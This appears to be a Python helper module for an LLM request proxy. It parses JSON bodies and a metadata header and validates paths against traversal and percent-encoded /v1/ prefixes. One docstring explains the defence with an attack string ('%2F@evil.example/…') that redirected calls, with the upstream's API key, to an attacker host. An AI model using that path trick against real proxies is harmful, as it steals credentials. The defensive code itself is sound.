"""Reading a proxied request: its body and metadata header as JSON objects, and paths that would climb or whose
/v1/ is written percent-encoded."""

from __future__ import annotations

from typing import Any, Literal

import orjson

# JSON's insignificant whitespace, which may come before a body's object.
_JSON_SPACE = (b" ", b"\t", b"\r", b"\n")
# An empty header or JSON null is no metadata: what a client sends for an unset variable.
_NO_METADATA = (b"", b"null")
# The refusal of a metadata header that names no JSON object (400, code `invalid_metadata`).
BAD_METADATA = 'The x-feedgate-metadata header must be a JSON object, e.g. {"feature": "search"}.'


def request_object(body: bytes) -> dict[str, Any] | None:
    """The request body as a JSON object, or None for any other body (a file upload, say), unparsed."""
    first = body[:1]
    if first == b"{" or (first in _JSON_SPACE and body.lstrip(b" \t\r\n")[:1] == b"{"):
        return json_object(body)
    return None


def v1_written_plainly(raw_path: bytes | None) -> bool:
    """Whether the path as sent (`raw_path`; None or empty: there is no raw form, the decoded one is sent) starts
    with `/v1/` written as such, not percent-encoded (`/v1%2F…`, `/%761/…`).

    The router reads the decoded path, the upstream gets the raw one's rest after its first 3 bytes: with a /v1/ in
    disguise that rest need not start with '/', and after an upstream URL without a path it became the URL's host
    (`http://llm:4000` + `%2F@evil.example/…` sent the call, with the upstream's key, to evil.example).
    """
    return not raw_path or raw_path.startswith(b"/v1/")


def climbs(path: str) -> bool:
    """Whether the (decoded) path holds a '.' or '..' segment."""
    return any(segment in (".", "..") for segment in path.split("/"))


def json_object(body: bytes) -> dict[str, Any] | None:
    """`body` as a JSON object, or None when it is not one (a body or the metadata header)."""
    try:
        value = orjson.loads(body)
    except orjson.JSONDecodeError:
        return None
    return value if isinstance(value, dict) else None


def metadata_object(header: bytes) -> dict[str, Any] | Literal[False] | None:
    """The x-feedgate-metadata header's object: None for no metadata (empty, or null), False for anything else."""
    if header.strip() in _NO_METADATA:
        return None
    metadata = json_object(header)
    return False if metadata is None else metadata
